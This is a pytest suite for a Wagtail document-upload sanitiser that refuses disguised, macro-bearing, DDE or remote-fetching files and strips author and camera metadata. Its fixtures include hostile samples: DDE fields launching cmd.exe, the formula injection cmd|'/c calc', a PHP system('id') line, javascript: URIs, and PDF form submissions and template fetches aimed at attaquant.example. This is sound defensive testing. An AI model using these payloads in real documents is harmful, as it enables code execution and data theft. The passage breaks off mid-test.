"""Documents that people send."""

import base64
import hashlib
import html
import zipfile
import zlib
from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.filters import decode_stream_data
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject
from wagtail.documents.models import Document
from wagtail.images import get_image_model
from wagtail.models import APIToken, Collection

from fiches.media.documents import DocumentLimits, SafeDocumentField, check_document
from tests import pictures
from tests.factories import UserFactory


def pdf(**root):
    """A page, and what the root of the document says beside."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    for key, value in root.items():
        writer.root_object[NameObject(f"/{key}")] = value
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


PDF = pdf()
PIXELS = base64.b64encode(pictures.picture("PNG")).decode()
ODT = "application/vnd.oasis.opendocument.text"
INCOMPLETE = ["Ce fichier est incomplet ou abîmé. Enregistrez-le de nouveau, puis envoyez ce nouveau fichier."]


def sent(name, data):
    return SimpleUploadedFile(name, data)


def archive(**parts):
    """A zip; a part's name is written with its "/" and "." as "__" and "_"."""
    output = BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return output.getvalue()


def docx(**parts):
    return archive(**{"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>", **parts})


def workbook():
    output = BytesIO()
    Workbook().save(output)
    return output.getvalue()


def refusal_of(name, data, **options):
    with pytest.raises(ValidationError) as caught:
        check_document(sent(name, data), **options)
    return caught.value.messages


def lies(extension):
    said = "Le contenu de ce fichier ne correspond pas à son nom\u00a0: ce n’est pas un fichier"
    return [f"{said} .{extension}. Envoyez un autre fichier."]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("dossier.pdf", PDF),
        ("DOSSIER.PDF", b"\xef\xbb\xbf\n" + PDF + bytes(100)),
        ("dossier.odt", archive(mimetype=ODT, **{"content.xml": "<x/>"})),
        ("dossier.docx", docx()),
        ("budget.xlsx", workbook()),
        ("notes.txt", "Une fiche d’été\n".encode()),
        ("notes.txt", "Une fiche d’été\n".encode("cp1252")),
        ("liste.csv", "\ufeffnom;ville\nAgrodoubs;Flagey\n".encode("utf-16")),
        ("liste.csv", b"\xef\xbb\xbfnom;ville\r\nAgrodoubs;Flagey\r\n"),
    ],
)
def test_a_document_that_is_what_it_says_is_kept_under_its_name_with_what_it_holds(name, data):
    checked = check_document(sent(name, data))
    assert checked.name == name
    assert held(checked.read()) == held(data)


def held(data):
    """What stays the same in a document written anew: its parts, or its pages, or its text."""
    if data.startswith(b"PK"):
        with zipfile.ZipFile(BytesIO(data)) as made:
            return {name: made.read(name) for name in made.namelist() if not name.startswith("docProps/")}
    if b"%PDF" in data[:10]:
        return [page.mediabox for page in PdfReader(BytesIO(data)).pages]
    return data


def test_a_picture_comes_back_clean():
    checked = check_document(sent("plan.jpg", pictures.telling_jpeg()), limits=DocumentLimits())
    assert (checked.name, checked.width) == ("plan.jpg", 80)
    assert pictures.SECRET not in checked.read()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("dossier.pdf", docx()),
        ("dossier.pdf", b"<html>%PDF-1.7</html>"),
        ("dossier.docx", PDF),
        ("dossier.docx", workbook()),
        ("dossier.docx", archive(**{"evil.exe": "MZ"})),
        ("dossier.odt", docx()),
        ("dossier.odt", archive(mimetype="application/zip")),
        ("dossier.odt", archive(mimetype="application/vnd.oasis.opendocument.spreadsheet")),
        ("notes.txt", PDF),
        ("notes.txt", b"MZ\x90\x00\x03"),
        ("notes.txt", b" <!DOCTYPE html><script>alert(1)</script>"),
        ("liste.csv", b"<?php system('id');"),
        ("liste.csv", workbook()),
    ],
)
def test_a_document_that_lies_about_what_it_is_is_refused(name, data):
    assert refusal_of(name, data) == lies(name.rpartition(".")[2])


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("dossier.pdf", PDF[:-8]),
        ("dossier.docx", docx()[:-30]),
        ("dossier.odt", b"PK\x03\x04" + bytes(500)),
    ],
)
def test_an_incomplete_document_is_refused(name, data):
    assert refusal_of(name, data) == INCOMPLETE


def test_a_document_with_macros_is_refused():
    message = ["Ce fichier contient des macros. Envoyez-le sans elles, ou en PDF."]
    assert refusal_of("dossier.docx", docx(**{"word/vbaProject.bin": "x"})) == message
    assert refusal_of("dossier.odt", archive(mimetype=ODT, **{"Basic/Standard/Module1.xml": "x"})) == message
    for part in ("word/VBAPROJECT.BIN", "word\\\\vbaProject.bin", "word/vbaData.xml", "xl/macrosheets/sheet1.xml"):
        assert refusal_of("dossier.docx", docx(**{part: "x"})) == message
    assert refusal_of("dossier.odt", archive(mimetype=ODT, **{"BASIC/Standard/Module1.xml": "x"})) == message


@pytest.mark.parametrize(
    "part",
    [
        {
            "[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-word.document.MACROENABLED.main+xml"/></Types>'
        },
        {
            "[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>'.encode(
                "utf-16"
            )
        },
        {"word/_rels/document.xml.rels": '<R Type="http://x/vbaPro&#106;ect" Target="media/image1.bin"/>'},
    ],
)
def test_macros_under_another_name_are_seen_by_what_declares_them(part):
    assert refusal_of("dossier.docx", docx(**part)) == [
        "Ce fichier contient des macros. Envoyez-le sans elles, ou en PDF."
    ]


def test_an_event_of_an_opendocument_that_runs_a_script_is_refused():
    content = '<x xlink:href="vnd.sun.star.script:LibreLogo|x.py$run?language=Python&amp;location=share"/>'
    assert refusal_of("dossier.odt", archive(mimetype=ODT, **{"content.xml": content})) == [
        "Ce fichier contient des macros. Envoyez-le sans elles, ou en PDF."
    ]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("dossier.docx", docx(**{"word/embeddings/oleObject1.bin": "x"})),
        ("dossier.docx", docx(**{"word/activeX/activeX1.xml": "x"})),
        (
            "dossier.docx",
            docx(**{"word/_rels/document.xml.rels": '<R Type="http://x/oleObject" Target="http://evil/"/>'}),
        ),
        ("dossier.odt", archive(mimetype=ODT, **{"Object 1": "x"})),
    ],
)
def test_an_object_of_another_programme_is_refused(name, data):
    assert refusal_of(name, data) == [
        "Ce fichier contient un objet d’un autre logiciel. Enlevez cet objet, ou envoyez le document en PDF."
    ]


LOCKED = ["Ce fichier est protégé par un mot de passe. Envoyez-le sans mot de passe."]


def locked_pdf(**options):
    writer = PdfWriter(clone_from=BytesIO(PDF))
    writer.encrypt(**options)
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def test_a_locked_document_is_refused_and_one_that_everyone_opens_is_not():
    assert refusal_of("dossier.pdf", locked_pdf(user_password="x")) == LOCKED
    assert refusal_of("dossier.docx", b"\xd0\xcf\x11\xe0" + bytes(600)) == LOCKED
    manifest = {"META-INF/manifest.xml": "<x><manifest:encryption-data/></x>"}
    assert refusal_of("dossier.odt", archive(mimetype=ODT, **manifest)) == LOCKED
    opened = check_document(sent("dossier.pdf", locked_pdf(user_password="", owner_password="x"))).read()
    assert (held(opened), PdfReader(BytesIO(opened)).is_encrypted) == (held(PDF), False)


def dictionary(**values):
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in values.items()})


def action(kind, **values):
    return dictionary(S=NameObject(kind), **values)


@pytest.mark.parametrize(
    ("root", "message"),
    [
        ({"OpenAction": action("/JavaScript", JS=TextStringObject("app.alert(1)"))}, "un programme (JavaScript)"),
        (
            {"Names": dictionary(JavaScript=dictionary(Names=ArrayObject([action("/JavaScript")])))},
            "un programme (JavaScript)",
        ),
        ({"OpenAction": action("/GoTo", Next=action("/Launch"))}, "d’ouvrir un autre logiciel ou un autre fichier"),
        ({"Names": dictionary(EmbeddedFiles=dictionary())}, "d’autres fichiers"),
        ({"AF": ArrayObject([dictionary(EF=dictionary())])}, "d’autres fichiers"),
        ({"Marked": dictionary(Subtype=NameObject("/RichMedia"))}, "un film, un son ou un dessin en 3D"),
        ({"AcroForm": dictionary(XFA=ArrayObject())}, "un formulaire que seul Adobe Reader ouvre (XFA)"),
    ],
)
def test_a_pdf_in_which_something_runs_is_refused_and_says_what(root, message):
    [said] = refusal_of("dossier.pdf", pdf(**root))
    assert message in said


LEADS_OUT = "Ce PDF contient un lien dangereux : il ouvre un fichier, envoie un formulaire ou lance un programme. "


@pytest.mark.parametrize(
    "acts",
    [
        action("/GoToR", F=TextStringObject("\\\\attaquant.example\\partage\\x.pdf")),
        action("/SubmitForm", F=TextStringObject("https://attaquant.example/")),
        action("/ImportData", F=TextStringObject("x.fdf")),
        action("/URI", URI=TextStringObject("javascript:alert(1)")),
        action("/URI", URI=TextStringObject(" Java\nScript:alert(1)")),
        action("/URI", URI=TextStringObject("file://attaquant.example/partage/x")),
        action("/URI", URI=TextStringObject("\\\\attaquant.example\\partage")),
    ],
    ids=["GoToR", "SubmitForm", "ImportData", "javascript", "javascript in two lines", "file", "share"],
)
def test_a_link_that_acts_is_refused_wherever_it_stands_in_a_pdf(acts):
    link = dictionary(Subtype=NameObject("/Link"), Rect=ArrayObject(), A=acts)
    for root in ({"OpenAction": acts}, {"Marked": link}):
        [said] = refusal_of("dossier.pdf", pdf(**root))
        assert (
            said
            == f"{LEADS_OUT}Retirez ce lien, ou imprimez le document dans un nouveau PDF, puis envoyez ce nouveau fichier.".replace(
                " :", "\u00a0:"
            )
        )


def test_a_link_to_a_site_a_mailbox_or_a_page_of_the_pdf_is_kept():
    for acts in (
        action("/URI", URI=TextStringObject("https://exemple.fr/?a=javascript:")),
        action("/URI", URI=TextStringObject("mailto:jeanne@exemple.fr")),
        action("/URI", URI=TextStringObject("tel:+33381000000")),
        action("/URI", URI=TextStringObject("www.exemple.fr/page")),
        action("/GoTo", D=ArrayObject()),
    ):
        kept = PdfReader(check_document(sent("dossier.pdf", pdf(OpenAction=acts)))).root_object["/OpenAction"]
        assert kept == acts


def test_javascript_whose_name_is_written_in_codes_is_seen():
    hidden = pdf(OpenAction=action("/JavaScript")).replace(b"/JavaScript", b"/J#61v#61Script")
    assert refusal_of("dossier.pdf", hidden) == [
        "Ce PDF contient un programme (JavaScript). Imprimez-le dans un nouveau PDF, puis envoyez-le."
    ]


AUTHOR = b"Jeanne Marqueur"


def telling_pdf():
    """A PDF that names its author in its properties, in XMP on the document and on a page, beside a remark and in a photograph,
    the old properties still in it."""
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    writer.metadata = {"/Author": AUTHOR.decode(), "/Title": "Dossier"}
    for owner in (writer.root_object, page):
        stream = StreamObject()
        stream.set_data(b"<x:xmpmeta>" + AUTHOR + b"</x:xmpmeta>")
        owner[NameObject("/Metadata")] = writer._add_object(stream)
    photograph = StreamObject()
    photograph._data = pictures.telling_jpeg()
    photograph.update(dictionary(Subtype=NameObject("/Image"), Filter=NameObject("/DCTDecode")))
    page[NameObject("/Resources")] = dictionary(XObject=dictionary(Im1=writer._add_object(photograph)))
    remark = dictionary(Subtype=NameObject("/Text"), Rect=ArrayObject(), T=TextStringObject(AUTHOR.decode()))
    page[NameObject("/Annots")] = ArrayObject([remark])
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def test_a_pdf_no_longer_tells_who_wrote_it_and_says_what_was_taken_off():
    told = telling_pdf()
    assert AUTHOR in told and pictures.SECRET in told
    clean = check_document(sent("dossier.pdf", told))
    data = clean.read()
    assert AUTHOR not in data and pictures.SECRET not in data
    assert PdfReader(BytesIO(data)).metadata == {"/Title": "Dossier"}
    assert clean.removed == (
        "les noms à côté des remarques et des corrections, ce que les appareils photo ont écrit dans les images "
        "et les propriétés du fichier (auteur, logiciel, dates)"
    )


def lzw(data):
    """LZW that never builds a table: a code of nine bits for each byte, cleared before codes grow."""
    codes = [code for byte in data for code in (256, byte)] + [257]
    bits = "".join(f"{code:09b}" for code in codes)
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def run_length(data):
    """Literal runs of one byte."""
    return b"".join(b"\x00" + data[position : position + 1] for position in range(len(data))) + b"\x80"


def pdf_with_photograph(content, *filters, **more):
    """A PDF whose only picture is ``content``, announced with these filters."""
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    photograph = StreamObject()
    photograph._data = content
    names = ArrayObject([NameObject(f"/{name}") for name in filters])
    photograph.update(dictionary(Subtype=NameObject("/Image"), Filter=writer._add_object(names), **more))
    page[NameObject("/Resources")] = dictionary(XObject=dictionary(Im1=writer._add_object(photograph)))
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


WRAPPINGS = {
    "ASCII85Decode": lambda data: base64.a85encode(data) + b"~>",
    "ASCIIHexDecode": lambda data: data.hex().encode() + b">",
    "FlateDecode": zlib.compress,
    "LZWDecode": lzw,
    "RunLengthDecode": run_length,
}


def photograph_in(data):
    """The first picture of a PDF, decoded."""
    [page] = PdfReader(BytesIO(data)).pages
    return decode_stream_data(page["/Resources"]["/XObject"]["/Im1"])


@pytest.mark.parametrize(
    "wrappings", [(), *((name,) for name in WRAPPINGS), ("ASCII85Decode", "FlateDecode")], ids="+".join
)
@pytest.mark.parametrize(
    ("kind", "made"), [("DCTDecode", pictures.telling_jpeg), ("JPXDecode", pictures.telling_jpeg_2000)]
)
def test_a_photograph_in_a_pdf_no_longer_tells_where_it_was_taken_however_it_is_wrapped(wrappings, kind, made):
    wrapped = told = made()
    for name in reversed(wrappings):
        wrapped = WRAPPINGS[name](wrapped)
    told_in = pdf_with_photograph(wrapped, *wrappings, kind)
    assert pictures.SECRET in photograph_in(told_in)
    clean = check_document(sent("dossier.pdf", told_in))
    photograph = photograph_in(clean.read())
    assert pictures.SECRET not in photograph
    assert shown_by(photograph) == shown_by(told)
    assert clean.removed.startswith("ce que les appareils photo ont écrit dans les images")


def shown_by(photograph):
    with Image.open(BytesIO(photograph)) as image:
        return image.size, image.convert("RGB").tobytes()


@pytest.mark.parametrize(
    ("content", "filters"),
    [(b"", ("Crypted", "DCTDecode")), (b"!", ("DCTDecode", "FlateDecode")), (b"Bonjour", ("DCTDecode",))],
    ids=["unknown filter", "not last", "not a JPEG"],
)
def test_a_photograph_that_cannot_be_read_is_refused_and_says_so(content, filters):
    content = content and (content if content == b"Bonjour" else zlib.compress(pictures.telling_jpeg()))
    assert refusal_of("dossier.pdf", pdf_with_photograph(content or b"x", *filters)) == [
        "Ce PDF contient une image dont nous ne pouvons pas retirer les informations de l’appareil photo. "
        "Imprimez-le dans un nouveau PDF, puis envoyez-le."
    ]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("image1.jpg", pictures.telling_jpeg()),
        ("image1.jpg", pictures.picture(progressive=True) + pictures.SECRET),
        ("image1.jpg", b"\xff\xd8\xff\xff" + pictures.telling_jpeg()[3:]),
        ("image1.jpg", pictures.picture()[:2] + b"\xff\xeb\x00\x12" + pictures.SECRET + pictures.picture()[2:]),
        ("image1.png", pictures.picture("PNG") + pictures.chunk(b"tEXt", pictures.SECRET) + pictures.SECRET),
        ("image1.png", pictures.png_of((100, 100), pictures.chunk(b"caBX", pictures.SECRET))),
        ("image1.jp2", pictures.telling_jpeg_2000()),
        ("image1.webp", pictures.telling_webp()),
        ("image1.webp", pictures.telling_webp({"lossless": True})),
        ("image1.webp", pictures.telling_webp({"save_all": True, "append_images": [pictures.pixels().rotate(180)]})),
        ("image1.tiff", pictures.telling_tiff()),
        ("image1.tiff", pictures.telling_tiff(compression="tiff_lzw")),
        ("image1.tiff", pictures.telling_tiff(compression="jpeg")),
        ("image1.tiff", pictures.telling_tiff(big_endian=True)),
    ],
    ids=[
        *("after its end", "progressive", "padded", "another segment", "after a PNG", "another chunk", "JPEG 2000"),
        *("WebP", "WebP without loss", "moving WebP", "TIFF", "TIFF in LZW", "TIFF in JPEG", "TIFF from a Mac"),
    ],
)
def test_a_picture_in_an_office_file_keeps_its_pixels_and_nothing_else(name, content):
    assert pictures.SECRET in content
    clean = check_document(sent("dossier.docx", docx(**{f"word/media/{name}": content})))
    kept = held(clean.read())[f"word/media/{name}"]
    assert pictures.SECRET not in kept
    if b"caBX" not in content:
        assert shown_by(kept) == shown_by(content)
    assert clean.removed.startswith("ce que les appareils photo ont écrit dans les images")


@pytest.mark.parametrize("made", [pictures.telling_webp, pictures.telling_tiff])
def test_a_picture_in_an_office_file_has_no_exif_left(made):
    kept = held(check_document(sent("d.pptx", pptx_with(made()))).read())["ppt/media/image1"]
    with Image.open(BytesIO(kept)) as image:
        assert (dict(image.getexif().get_ifd(pictures.GPS_IFD)), image.getexif().get(pictures.ARTIST)) == ({}, None)
        assert getattr(image, "n_frames", 1) == (2 if image.format == "TIFF" else 1)


def pptx_with(photograph):
    return archive(
        **{"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>", "ppt/media/image1": photograph}
    )


@pytest.mark.parametrize(
    "photograph",
    [pictures.picture("HEIF"), pictures.picture("AVIF"), b"II+\0" + bytes(12)],
    ids=["HEIC", "AVIF", "BigTIFF"],
)
def test_a_picture_of_a_kind_that_cannot_be_cleaned_is_refused_and_says_so(photograph):
    assert refusal_of("dossier.pptx", pptx_with(photograph)) == [
        "Ce fichier contient une image d’un format dont nous ne pouvons pas retirer les informations de l’appareil photo ou du logiciel. "
        "Remplacez cette image par une image JPEG ou PNG, ou envoyez le document en PDF."
    ]


CORE = "<cp:coreProperties><dc:creator>Jeanne Marqueur</dc:creator></cp:coreProperties>"
NAMED_CORE = CORE.replace(
    "<cp:coreProperties",
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"',
)
TELLING_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:i="http://www.inkscape.org/namespaces/inkscape"
 i:export-filename="C:/Users/Marqueur/x.png" onload="Marqueur()"><!-- Marqueur --><metadata><a>Marqueur</a></metadata>
 <script>Marqueur()</script><path d="M0 0h9"/></svg>"""
TELLING = {
    "dossier.docx": docx(
        **{
            "docProps/core.xml": CORE,
            "docProps/custom.xml": "<Properties>Jeanne Marqueur</Properties>",
            "docProps/thumbnail.jpeg": pictures.telling_jpeg(),
            "_rels/.rels": '<Relationships><Relationship Type="http://x/metadata/thumbnail" Target="docProps/thumbnail.jpeg"/></Relationships>',
            "word/comments.xml": '<w:comment w:author="Jeanne Marqueur" w:initials="Marqueur">Bravo</w:comment>',
            "word/document.xml": '<w:ins w:id="1" w:author="Jeanne Marqueur"><w:t>Bonjour</w:t></w:ins>',
            "word/people.xml": '<w15:person w15:author="Jeanne Marqueur"><w15:presenceInfo w15:userId="Marqueur"/></w15:person>',
            "word/_rels/settings.xml.rels": '<Relationship Type="http://x/relationships/attachedTemplate" Target="file:///C:/Users/Marqueur/x.dotx"/>',
            "word/media/image1.jpg": pictures.telling_jpeg(),
            "word/media/image2.svg": TELLING_SVG,
            "package/services/metadata/core-properties/x.psmdcp": NAMED_CORE,
            "meta/props.xml": NAMED_CORE.encode("utf-16"),
            "customXml/item1.xml": "<Sources><Author>Marqueur</Author></Sources>",
            "word/embeddings/Feuille.xlsx": archive(
                **{"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>", "docProps/core.xml": CORE}
            ),
        }
    ),
    "budget.xlsx": archive(
        **{
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.xml": '<w><x15ac:absPath url="C:\\Users\\Marqueur\\"/></w>',
            "xl/comments1.xml": "<authors><author>Jeanne Marqueur</author></authors>",
            "xl/persons/person.xml": '<person displayName="Jeanne Marqueur" userId="Marqueur"/>',
            "xl/revisions/userNames.xml": '<users><userInfo guid="{1}" name="Jeanne Marqueur" id="1"/></users>',
            "xl/printerSettings/printerSettings1.bin": "Marqueur",
            "xl/tables/table1.xml": '<table displayName="Tableau1"/>',
        }
    ),
    "exposé.pptx": archive(
        **{
            "[Content_Types].xml": "<Types/>",
            "ppt/presentation.xml": "<p/>",
            "ppt/commentAuthors.xml": '<p:cmAuthor id="0" name="Jeanne Marqueur" initials="Marqueur"/>',
        }
    ),
    "dossier.odt": archive(
        mimetype=ODT,
        **{
            "meta.xml": "<meta:initial-creator>Jeanne Marqueur</meta:initial-creator>",
            "content.xml": "<office:annotation><dc:creator>Jeanne Marqueur</dc:creator><text:p>Bravo</text:p></office:annotation>",
            "Thumbnails/thumbnail.png": "Marqueur",
            "settings.xml": '<config:config-item config:name="PrinterName" config:type="string">Marqueur</config:config-item>',
            "META-INF/manifest.xml": '<manifest:file-entry manifest:full-path="Thumbnails/thumbnail.png"/>',
        },
    ),
}


def everything_in(data):
    """The parts of an archive, unpacked, however deep, one after the other."""
    with zipfile.ZipFile(BytesIO(data)) as made:
        parts = [made.read(name) for name in made.namelist()]
    return b"".join(everything_in(part) if part.startswith(b"PK") else part for part in parts)


@pytest.mark.parametrize("name", TELLING)
def test_an_office_document_no_longer_tells_who_wrote_it(name):
    assert b"Marqueur" in everything_in(TELLING[name])
    clean = check_document(sent(name, TELLING[name]))
    kept = everything_in(clean.read())
    assert b"Marqueur" not in kept.replace(b"\0", b"") and pictures.SECRET not in kept and b"humbnail" not in kept
    assert clean.removed


def test_a_document_that_keeps_its_former_versions_is_refused_and_says_so():
    for part in ("Versions/Version1", "VersionList.xml"):
        assert refusal_of("dossier.odt", archive(mimetype=ODT, **{"content.xml": "<a/>", part: "x"})) == [
            "Ce fichier garde d’anciennes versions de son texte. Supprimez-les (menu Fichier, Versions), ou envoyez le document en PDF."
        ]


def test_a_drawing_in_a_document_keeps_its_shapes():
    kept = held(check_document(sent("d.docx", TELLING["dossier.docx"])).read())["word/media/image2.svg"]
    assert b"svg" in kept and b'd="M0 0h9"' in kept
    plain = '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'
    assert (
        held(check_document(sent("d.docx", docx(**{"word/media/a.svg": plain}))).read())["word/media/a.svg"]
        == plain.encode()
    )


def test_what_a_document_says_stays_when_its_author_goes():
    word = held(check_document(sent("d.docx", TELLING["dossier.docx"])).read())
    assert word["word/document.xml"] == b'<w:ins w:id="1" w:author="Author"><w:t>Bonjour</w:t></w:ins>'
    assert held(check_document(sent("b.xlsx", TELLING["budget.xlsx"])).read())["xl/tables/table1.xml"] == (
        b'<table displayName="Tableau1"/>'
    )


def test_the_admin_says_what_it_took_off_alone_among_several_and_from_a_chooser(admin_client, root):
    ways = {
        "wagtaildocs:add": {"file": "file"},
        "wagtaildocs:add_multiple": {"file": "files[]"},
        "wagtaildocs_chooser:create": {"file": "document-chooser-upload-file"},
    }
    for way, field in ways.items():
        prefix = "document-chooser-upload-" if "chooser" in way else ""
        sent_file = sent("dossier.docx", TELLING["dossier.docx"])
        fields = {f"{prefix}title": "Dossier", f"{prefix}collection": root, field["file"]: sent_file}
        admin_client.post(reverse(way), fields, headers={"x-requested-with": "XMLHttpRequest"})
        page = admin_client.get(reverse("wagtaildocs:index")).content.decode()
        assert "Retiré de « dossier.docx » avant son enregistrement" in html.unescape(page)
        kept = Document.objects.latest("pk")
        with kept.file.open("rb") as file:
            assert b"Marqueur" not in everything_in(file.read())
    assert Document.objects.count() == 3


def field(*codes, kind="instrText"):
    """A Word field whose code is split over several runs."""
    runs = "".join(f"<w:r><w:{kind}>{code}</w:{kind}></w:r>" for code in codes)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>12</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def nested(inner, *codes):
    """A Word field whose code begins with the result of another."""
    return field(*codes).replace("<w:r><w:instrText>", inner + "<w:r><w:instrText>", 1)


def word(body, **parts):
    return "d.docx", docx(**{"word/document.xml": f"<w:document>{body}</w:document>", **parts})


def excel(**parts):
    return "d.xlsx", archive(**{"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>", **parts})


def writer(content):
    return "d.odt", archive(
        mimetype=ODT, **{"content.xml": f"<office:document-content>{content}</office:document-content>"}
    )


def related(kind, target, mode='TargetMode="External"'):
    return f"<Relationships><Relationship Id='r1' Type='http://x/relationships/{kind}' Target='{target}' {mode}/></Relationships>"


DDE = {
    "a field": word(field(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
    "a field in lower case": word(field("dde excel a b")),
    "a field split over runs": word(field("DD", "E", "AUTO cmd")),
    "a simple field": word('<w:p><w:fldSimple w:instr=" DDE cmd "/></w:p>'),
    "a field named by another": word(nested(field("QUOTE 68 68 69"), " cmd")),
    "a field in a header, of another prefix": word(
        "", **{"word/header1.xml": field("DDEAUTO cmd").replace("w:", "x:")}
    ),
    "a part with another name": word("", **{"other/part.bin": field("DDEAUTO cmd").encode("utf-16")}),
    "a workbook's link": excel(
        **{"xl/externalLinks/e1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
    ),
    "a formula": excel(**{"xl/worksheets/s1.xml": "<c><f>1+cmd|'/c calc'!A1</f></c>"}),
    "OpenDocument": writer('<text:dde-connection-decl office:dde-application="soffice"/>'),
    "a formula of OpenDocument": writer('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;1)"/>'),
}
REMOTE = {
    "a picture": word("", **{"word/_rels/document.xml.rels": related("image", "https://attaquant.example/p.png")}),
    "a template in another part": word("", **{"word/_rels/x.rels": related("attachedTemplate", "//h/x.dotm")}),
    "a picture field": word(field("INCLUDE", 'PICTURE "https://attaquant.example/p.png"')),
    "another workbook": excel(**{"xl/externalLinks/_rels/e.rels": related("externalLinkPath", "file:///C:/b.xlsx")}),
    "a web query": excel(**{"xl/connections.xml": "<connections><connection><webPr/></connection></connections>"}),
    "a formula": excel(**{"xl/worksheets/s1.xml": '<f>_xlfn.WEBSERVICE("https://attaquant.example")</f>'}),
    "OpenDocument": writer('<draw:image xlink:href="https://attaquant.example/p.png"/>'),
    "a section of OpenDocument": writer('<text:section-source xlink:href="../../secret.odt"/>'),
}


@pytest.mark.parametrize("case", DDE)
def test_a_document_that_starts_another_programme_for_data_is_refused_and_says_so(case):
    assert refusal_of(*DDE[case]) == [
        "Ce fichier demande des données à un autre logiciel (DDE). "
        "Enlevez ce champ, ce lien ou cette formule, ou envoyez le document en PDF."
    ]


@pytest.mark.parametrize("case", REMOTE)
def test_a_document_that_fetches_something_from_elsewhere_is_refused_and_says_so(case):
    assert refusal_of(*REMOTE[case]) == [
        "Ce fichier va chercher ailleurs une image, un modèle ou des données quand on l’ouvre. "
        "Mettez-les dans le fichier, ou envoyez le document en PDF."
    ]


def test_links_that_one_clicks_and_ordinary_fields_and_formulas_are_kept():
    for name, data in (
        word(
            field("PAGE") + field(" HYPERLINK ", '"https://exemple.fr"') + nested("", "TOC \\o") + "<w:t>DDEAUTO</w:t>"
        ),
        word(field("IF ", "1").replace("<w:r><w:t>12", field("MERGEFIELD nom") + "<w:r><w:t>12")),
        word("", **{"word/_rels/document.xml.rels": related("hyperlink", "https://exemple.fr")}),
        word("", **{"word/_rels/document.xml.rels": related("image", "media/image1.png", mode="")}),
        word(
            "",
            **{
                "word/media/image1.svg": f'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="data:image/png;base64,{PIXELS}"/><a xlink:href="https://e.fr"/></svg>'
            },
        ),
        excel(**{"xl/worksheets/s1.xml": "<c><f>SUM(A1:A3)&amp;\"a|b\"&amp;'L|1'!A1</f><f>ImageRate(1)</f></c>"}),
        writer('<text:a xlink:href="https://exemple.fr">a</text:a><draw:image xlink:href="Pictures/a.png"/>'),
        writer('<draw:object xlink:href="./Object 1"/><draw:object xlink:href="../Object 2"/>'),
    ):
        assert held(check_document(sent(name, data)).read()) == held(data)


def test_an_archive_that_unpacks_to_a_flood_is_refused_without_unpacking_it():
    message = ["Ce fichier est trop grand une fois ouvert. Envoyez un fichier plus petit."]
    assert refusal_of("dossier.docx", docx(**{"word/media/a.bin": bytes(301 * 1024 * 1024)})) == message
    assert refusal_of("dossier.docx", docx(**{f"word/{number}": "" for number in range(10_000)})) == message


def test_another_kind_of_file_or_none_is_refused():
    accepted = "pdf, odp, ods, odt, docx, pptx, xlsx, csv, txt"
    message = [f"Ce type de fichier n’est pas accepté. Envoyez l’un de ceux-ci\u00a0: {accepted}, jpeg, jpg, png."]
    everything = DocumentLimits()
    for name in ("dossier.exe", "dossier.html", "dossier.svg", "dossier.pdf.zip", "dossier", ".pdf"):
        assert refusal_of(name, PDF, limits=everything) == message
    assert refusal_of("dossier.pdf", b"") == ["Ce fichier est vide. Choisissez un autre fichier."]


def test_a_document_too_heavy_is_refused():
    assert refusal_of("dossier.pdf", PDF, limits=DocumentLimits(max_bytes=20)) == [
        f"Ce fichier est trop lourd ({len(PDF)}\u00a0octets). Envoyez-en un de 20\u00a0octets au plus."
    ]


def test_a_form_s_document_is_checked_and_may_be_left_out():
    assert SafeDocumentField(required=False).clean(None) is None
    assert held(SafeDocumentField().clean(sent("a.pdf", PDF)).read()) == held(PDF)
    with pytest.raises(ValidationError) as caught:
        SafeDocumentField().clean(sent("a.pdf", b"Bonjour"))
    assert caught.value.messages == lies("pdf")


@pytest.fixture
def root(db):
    """The collection where documents go unless said otherwise."""
    return Collection.get_first_root_node().pk


def test_the_admin_refuses_a_document_that_lies_alone_or_among_several(admin_client, root):
    alone = admin_client.post(
        reverse("wagtaildocs:add"), {"title": "Dossier", "collection": root, "file": sent("a.pdf", b"Bonjour")}
    )
    assert (alone.status_code, alone.context["form"].errors) == (200, {"file": lies("pdf")})
    several = admin_client.post(
        reverse("wagtaildocs:add_multiple"),
        {"title": "Dossier", "collection": root, "files[]": sent("a.docx", PDF)},
        headers={"x-requested-with": "XMLHttpRequest"},
    )
